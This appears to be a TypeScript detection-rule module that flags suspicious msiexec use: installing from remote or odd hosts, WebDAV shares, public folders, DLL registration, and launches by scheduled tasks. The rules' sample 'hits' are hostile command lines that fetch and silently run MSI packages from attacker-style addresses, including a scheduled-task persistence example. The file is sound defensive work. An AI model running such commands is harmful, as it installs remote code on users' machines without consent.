/** Windows Installer and what stands behind the alert "msiexec from a remote address": where the package is, how quietly it goes in, what speaks for an honest one. */
import { behaviour, counter } from './behaviour.ts';
import { hostClass, isOddHost, isWebDav, isWritablePlace, pathClasses, portOf } from './places.ts';
import { onProcess, type Row } from './row.ts';
import { urlText } from './windows-scripts.ts';
import type { Argument, Process } from '../types.ts';

const MSI = ['msiexec', 'wmic', 'invoke-cimmethod', 'invoke-wmimethod', '.installproduct'];

/** The package that is put in: the operand after /i, /package, /a, /j, /f or the one glued to it. */
function packageOf({ args, name }: Process): Argument | undefined {
  if (name !== 'msiexec') return args.find(({ lower }) => /https?:\/\/|\\\\|\.msi\b/.test(lower.slice(0, 1000)));
  for (let at = 0; at < args.length; at += 1) {
    const { lower = '' } = args[at] ?? {};
    const found = /^[-/](?:i|package|a|j[mu]?|f[pomsduvecaw]*|update|p|x|uninstall)(?=$|["{:\\a-z0-9%])/.exec(lower);
    if (found === null) continue;
    const glued = lower.slice(found[0].length).replace(/^["{:]+/, '');
    if (/^(?:https?:|\\\\|[a-z]:\\)/.test(glued)) return args[at];
    if (glued === '' && args[at + 1] !== undefined) return args[at + 1];
  }
  return args.find(({ role, lower }) => role === 'url' || lower.endsWith('.msi'));
}

function remoteOf(process: Process): Argument | undefined {
  const found = packageOf(process);
  return found !== undefined && /https?:[\\/]{1,2}|^["']?\\\\|ftp:/.test(found.lower.slice(0, 500)) ? found : undefined;
}

function place(argument: Argument): string {
  return argument.lower.startsWith('\\\\') ? argument.lower : urlText(argument).replace(/^.*?(?=https?:)/, '');
}

const QUIET = /^[-/](?:q(?:n|uiet|b[!-]*|r)?[+!-]*|passive)$/;

function isQuiet({ args }: Process): boolean {
  return args.some(({ lower }) => QUIET.test(lower));
}

export const INSTALLER: readonly Row[] = [
  behaviour('msi-remote', ['msi-place', 'T1218.007', 'defense-evasion', 'medium', 'medium'], {
    reason: 'Windows Installer is told to fetch its package from the network and run it.',
    benign: ['deployment from the site of a vendor or of the company'],
    hits: ['msiexec /i https://pkg.example.net/a.msi'],
    misses: ['msiexec /i C:\\deploy\\a.msi /qn'],
    look: onProcess(['msiexec'], (process) => {
      const found = remoteOf(process);
      return found !== undefined &&
        !/^(?:vendor|intranet|private)$/.test(hostClass(place(found))) &&
        !isRelease(place(found))
        ? found
        : undefined;
    }),
  }),
  behaviour('msi-remote-odd', ['msi-place', 'T1218.007', 'defense-evasion', 'critical', 'high'], {
    reason:
      'The package comes from an address that no vendor ships software from: a bare address, a number, a free or cheap host, a tunnel.',
    benign: [],
    hits: [
      'msiexec /q /i http://203.0.113.9/setup.msi',
      'msiexec /i http://3405803785/a.msi',
      'msiexec /qn /i http://[2001:db8::13]/a.msi',
      'msiexec /passive /i https://cdn.discordapp.com/attachments/1/2/a.msi',
    ],
    misses: ['msiexec /i https://pkg.example.net/a.msi', 'msiexec /i https://download.microsoft.com/a.msi /qn'],
    look: onProcess(MSI, (process) => {
      const found = remoteOf(process);
      return found !== undefined && isOddHost(place(found)) && hostClass(place(found)) !== 'free-host'
        ? found
        : undefined;
    }),
  }),
  behaviour('msi-remote-address', ['msi-place', 'T1218.007', 'lateral-movement', 'high', 'medium'], {
    reason:
      'The package comes from a bare address inside the network: somebody serves it from a machine, not from a software share.',
    benign: ['a small site without names'],
    hits: [
      'msiexec /qn /i http://10.20.99.5:8000/b.msi',
      'wmic product call install true,"","http://10.20.99.5/b.msi"',
    ],
    misses: ['msiexec /i https://artifactory.corp.example/a.msi /qn'],
    look: onProcess(MSI, (process) => {
      const found = remoteOf(process);
      return found !== undefined && hostClass(place(found)) === 'private' ? found : undefined;
    }),
  }),
  behaviour('msi-shared-host', ['msi-place', 'T1218.007', 'defense-evasion', 'high', 'medium'], {
    reason: 'The package lies on a site where anybody can put files (a code host, a file share, cloud storage).',
    benign: ['releases that a project publishes on its code host'],
    hits: [
      'msiexec /i https://bitbucket.org/x/r/raw/x/a.msi /qn',
      'msiexec /q /i "https://www.dropbox.com/scl/fi/a/b.msi?dl=1"',
    ],
    misses: ['msiexec /i https://github.com/PowerShell/PowerShell/releases/download/v7/p.msi /quiet'],
    look: onProcess(MSI, (process) => {
      const found = remoteOf(process);
      if (found === undefined) return undefined;
      const url = place(found);
      const isShared =
        !isRelease(url) &&
        (/\/\/(?:[\w.-]*\.)?(?:dropbox|bitbucket|gitlab|sourceforge|mediafire|onedrive|1drv|drive\.google|docs\.google|firebasestorage\.googleapis|storage\.googleapis|raw\.githubusercontent|gist\.github)/.test(
          url,
        ) ||
          /\/raw\//.test(url));
      return isShared ? found : undefined;
    }),
  }),
  behaviour('msi-webdav', ['msi-place', 'T1218.007', 'defense-evasion', 'critical', 'high'], {
    reason: 'The package lies on a web server that is opened like a share.',
    benign: [],
    hits: [
      'msiexec /i \\\\203.0.113.9@80\\webdav\\a.msi /quiet',
      'msiexec /i \\\\host.example.net@SSL\\DavWWWRoot\\a.msi',
    ],
    misses: ['msiexec /i \\\\fs01\\software\\a.msi /qn'],
    look: onProcess(['msiexec'], (process) => {
      const found = remoteOf(process);
      return found !== undefined && isWebDav(found.lower) ? found : undefined;
    }),
  }),
  behaviour('msi-unknown-quiet', ['msi-manner', 'T1218.007', 'defense-evasion', 'high', 'medium'], {
    reason: 'A package from a site that is no known vendor is put in without a word to the user.',
    benign: ['roll-out of software from a small vendor'],
    hits: ['msiexec /i http://pkg.example.net/a.msi /qn', 'msiexec /quiet /package https://files.example.org/x/r8'],
    misses: ['msiexec /i https://pkg.example.net/a.msi', 'msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi /qn'],
    look: onProcess(['msiexec'], (process) => {
      const found = remoteOf(process);
      return found !== undefined &&
        isQuiet(process) &&
        hostClass(place(found)) === 'name' &&
        !isSoftwareHost(place(found))
        ? found
        : undefined;
    }),
  }),
  behaviour('msi-no-package-name', ['msi-manner', 'T1218.007', 'defense-evasion', 'high', 'medium'], {
    reason:
      'What is put in does not look like a package: its address ends in something else, or carries the name of the computer or user.',
    benign: ['short links of a vendor'],
    hits: [
      'msiexec /quiet /package http://203.0.113.9/fix.png',
      'msiexec /q /i http://a.example.net:8080/XTzRn/DESKTOP-1A2B3C?jdoe',
    ],
    misses: [
      'msiexec /i https://aka.ms/installazurecliwindowsx64 /quiet',
      'msiexec /i https://a.example.net/a.msi?token=1',
    ],
    look: onProcess(['msiexec'], (process) => {
      const found = remoteOf(process);
      if (
        found === undefined ||
        /\.ms[ipt](?:$|[?"'}#&])/.test(place(found)) ||
        /^(?:vendor|intranet)$/.test(hostClass(place(found)))
      )
        return undefined;
      return found;
    }),
  }),
  behaviour('msi-mixed-case', ['msi-manner', 'T1027', 'defense-evasion', 'high', 'high'], {
    reason: 'The scheme of the address or the switches are written in a mixture of cases that nobody types.',
    benign: [],
    hits: ['msiexec /q /i hTtP://a.example.net/x', 'mSiExEc /I http://a.example.net/a.msi /Q'],
    misses: ['MsiExec.exe /I https://a.example.net/a.msi /QN', 'msiexec /i HTTP://a.example.net/a.msi'],
    look: onProcess(['msiexec'], (process) => {
      const scheme = remoteOf(process)?.text.match(/https?(?=:)/i)?.[0];
      const isMixed = (text: string): boolean =>
        /[a-z][A-Z]+[a-z]+[A-Z]/.test(text) || /^[a-z]+[A-Z]+[a-z]+[A-Z]*$/.test(text);
      const name = process.program.replace(/^.*[\\/]|\.exe$/gi, '');
      if (scheme !== undefined && isMixed(scheme)) return process;
      return isMixed(name) && !/^(?:MsiExec|msiExec|MSIexec|Msiexec)$/.test(name) ? process : undefined;
    }),
  }),
  behaviour('msi-odd-port', ['msi-manner', 'T1571', 'command-and-control', 'high', 'medium'], {
    reason: 'The package is fetched from an unusual port.',
    benign: ['test servers'],
    hits: ['msiexec /q /i http://a.example.net:8080/x.msi'],
    misses: ['msiexec /q /i https://a.example.net:443/x.msi'],
    look: onProcess(['msiexec'], (process) => {
      const found = remoteOf(process);
      const port = found === undefined ? undefined : portOf(place(found));
      return found !== undefined &&
        port !== undefined &&
        port !== 80 &&
        port !== 443 &&
        hostClass(place(found)) !== 'intranet'
        ? found
        : undefined;
    }),
  }),
  behaviour('msi-library-call', ['msi-library', 'T1218.007', 'defense-evasion', 'critical', 'high'], {
    reason: 'Windows Installer is used to call a library (its registration function), not to put a package in.',
    benign: ['very old installers register their own library'],
    hits: ['msiexec /y C:\\Users\\Public\\a.dll', 'msiexec.exe /z "C:\\x\\b.dll"'],
    misses: ['msiexec /unreg', 'msiexec /x {90160000-0011-0000-0000-0000000FF1CE}'],
    look: onProcess(
      ['msiexec'],
      ({ args }) =>
        args.find(({ lower }, at) => /^[-/][yz]$/.test(lower) && args[at + 1] !== undefined) ??
        args.find(({ lower }) => /^[-/][yz]["a-z%\\:].{0,300}\.(?:dll|ocx|cpl|dat|txt|log)/.test(lower)),
    ),
  }),
  behaviour('msi-user-folder', ['msi-local', 'T1218.007', 'defense-evasion', 'medium', 'medium'], {
    reason: 'A package in a folder that everybody can write to is put in quietly.',
    benign: ['deployment scripts that fetched it there', 'update programs'],
    hits: [
      'msiexec /q /i "C:\\Users\\Public\\a.msi"',
      'msiexec /qn /i %public%\\t.msi',
      'msiexec /fv C:\\ProgramData\\{7D}\\svc.msi /qn',
    ],
    misses: [
      'msiexec /i C:\\deploy\\a.msi /qn',
      'msiexec /i "C:\\Users\\b\\AppData\\Local\\Temp\\chocolatey\\git\\git.msi" /qn',
    ],
    look: onProcess(['msiexec'], (process) => {
      const found = packageOf(process);
      if (found === undefined || !isQuiet(process) || !isWritablePlace(found.lower)) return undefined;
      const classes = pathClasses(found.lower);
      return classes.includes('package-cache') ||
        classes.includes('installer-temp') ||
        (classes.includes('temp') && /\\windows\\temp\\/.test(found.lower))
        ? undefined
        : found;
    }),
  }),
  behaviour('msi-public-folder', ['msi-local', 'T1218.007', 'defense-evasion', 'high', 'medium'], {
    reason: 'A package in a public folder, where any user can put it, is put in or repaired quietly.',
    benign: ['hand-made deployment'],
    hits: ['msiexec /q /i "C:\\Users\\Public\\a.msi"', 'msiexec /fv C:\\ProgramData\\{7D}\\svc.msi /qn'],
    misses: ['msiexec /q /i C:\\Windows\\Temp\\a.msi', 'msiexec /q /i "C:\\ProgramData\\Package Cache\\x\\a.msi"'],
    look: onProcess(['msiexec'], (process) => {
      const found = packageOf(process);
      const classes = found === undefined ? [] : pathClasses(found.lower);
      const isPublic =
        classes.includes('public') ||
        classes.includes('recycle-bin') ||
        /[\\/]programdata[\\/](?:\{|[^\\/]{1,30}\.ms)/.test(found?.lower ?? '') ||
        found?.lower.startsWith('%public%') === true;
      return isPublic && isQuiet(process) && !classes.includes('package-cache') ? found : undefined;
    }),
  }),
  behaviour('msi-remote-transform', ['msi-place', 'T1218.007', 'defense-evasion', 'critical', 'high'], {
    reason: 'A package is changed by a transform from the network: what goes in is not what the package says.',
    benign: [],
    hits: ['msiexec /i "C:\\x\\7zip.msi" TRANSFORMS="https://a.example.net/t.mst" /qb'],
    misses: ['msiexec /i a.msi TRANSFORMS=\\\\fs01\\sw\\corp.mst /qn', 'msiexec /i a.msi TRANSFORMS=corp.mst'],
    look: onProcess(['msiexec'], ({ args }) =>
      args.find(({ lower }) => /^transforms="?(?:https?:|\\\\[^\\]{1,200}@)/.test(lower)),
    ),
  }),
  behaviour('msi-remote-call', ['msi-place', 'T1218.007', 'execution', 'high', 'medium'], {
    reason: 'A package is put in through WMI or a script object instead of msiexec.',
    benign: ['management tools'],
    hits: [
      'wmic product call install true,"","C:\\x\\a.msi"',
      'powershell "Invoke-CimMethod -ClassName Win32_Product -MethodName Install -Arguments @{ PackageLocation = \'C:\\x.msi\' }"',
    ],
    misses: ['wmic product get name'],
    look: onProcess(['wmic', 'invoke-cimmethod', 'invoke-wmimethod', '.installproduct'], ({ args, name }) =>
      name === '.installproduct' ||
      (args.some(({ lower }) => /^(?:product|win32_product)$/.test(lower)) &&
        args.some(({ lower }) => lower === 'install' || lower === 'admin' || lower === 'advertise'))
        ? args[0]
        : undefined,
    ),
  }),
  behaviour('msi-from-odd-parent', ['msi-parent', 'T1218.007', 'execution', 'high', 'medium'], {
    reason:
      'A program that is no installer (a script host, a scheduled task, a Run key, forfiles) starts Windows Installer with a package from the network.',
    benign: [],
    hits: [
      'schtasks /create /tn a /sc onlogon /tr "msiexec /q /i http://a.example.net/u.msi"',
      'forfiles /p c:\\windows /m notepad.exe /c "msiexec /i http://a.example.net/m.msi /qn"',
    ],
    misses: ['cmd /c msiexec /i a.msi /qn'],
    look: onProcess(['msiexec'], (process, { processes }) => {
      const parent = process.parent === undefined ? undefined : processes[process.parent];
      const isOdd =
        parent !== undefined &&
        /^(?:schtasks|reg|forfiles|mshta|wmic|rundll32|pcalua|wscript|cscript|at|sc|\.run)$/.test(parent.name);
      return isOdd ? remoteOf(process) : undefined;
    }),
  }),
  counter('ordinary-vendor-package', 'high', {
    reason: 'The package comes from the site of a known vendor, over an encrypted connection.',
    hits: ['msiexec /i https://download.microsoft.com/download/3/teams.msi /qn'],
    misses: ['msiexec /i http://203.0.113.9/a.msi /qn'],
    look: onProcess(['msiexec'], (process) => {
      const found = remoteOf(process);
      return found !== undefined && hostClass(place(found)) === 'vendor' && place(found).startsWith('https:')
        ? found
        : undefined;
    }),
  }),
  counter('ordinary-company-package', 'medium', {
    reason:
      'The package comes from a server with a name inside the company (an artifact store, a software distribution point).',
    hits: ['msiexec /package https://sccm01.corp.example/ccmsetup.msi /quiet', 'msiexec /i \\\\fs01\\sw\\a.msi /qn'],
    misses: ['msiexec /i http://10.20.99.5/a.msi'],
    look: onProcess(['msiexec'], (process) => {
      const found = remoteOf(process);
      return found !== undefined &&
        (hostClass(place(found)) === 'intranet' || isSoftwareHost(place(found)) || isRelease(place(found))) &&
        !isWebDav(found.lower)
        ? found
        : undefined;
    }),
  }),
  counter('ordinary-package-folder', 'medium', {
    reason: 'The package lies where deployment tools keep theirs.',
    hits: [
      'msiexec.exe /i "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\Staging\\a.msi" /qn',
      'msiexec /i "C:\\Users\\b\\AppData\\Local\\Temp\\chocolatey\\git\\git.msi" /qn',
    ],
    misses: ['msiexec /i C:\\Users\\Public\\a.msi /qn'],
    look: onProcess(['msiexec'], (process) => {
      const found = packageOf(process);
      return found !== undefined &&
        pathClasses(found.lower).some((one) => one === 'package-cache' || one === 'program-files')
        ? found
        : undefined;
    }),
  }),
  counter('ordinary-product-code', 'medium', {
    reason: 'A product that is there already is repaired or removed by its code.',
    hits: ['msiexec.exe /x {90160000-0011-0000-0000-0000000FF1CE} /qn'],
    misses: ['msiexec /i a.msi'],
    look: onProcess(['msiexec'], ({ args }) =>
      args.find(
        ({ lower }, at) =>
          /^(?:[-/](?:x|f\w*|i|uninstall))?"?\{[0-9a-f]{8}-[0-9a-f-]{27}\}/.test(lower) && (lower[0] !== '{' || at > 0),
      ),
    ),
  }),
];

/** A file that a project publishes as a release on its code host. */
function isRelease(url: string): boolean {
  return /^https:\/\/github\.com\/[\w.-]+\/[\w.-]+\/releases\/(?:latest\/)?download\//.test(url);
}

/** Names by which companies and projects call the servers of their software. */
function isSoftwareHost(url: string): boolean {
  return (
    /^https?:\/\/(?:downloads?|dl|packages?|pkgs?|releases?|repo|artifactory|nexus|sccm\d*|wsus\d*|mecm\d*|deploy|software|updates?|install(?:er|ers)?|mirror|s3|cdn|get|artifacts?)\d*\.(?!top|xyz|click)[\w.-]{4,}\.(?:com|io|org|net|dev|de|co\.uk|local|cloud|ai)(?::443)?\//.test(
      url,
    ) && url.startsWith('https:')
  );
}
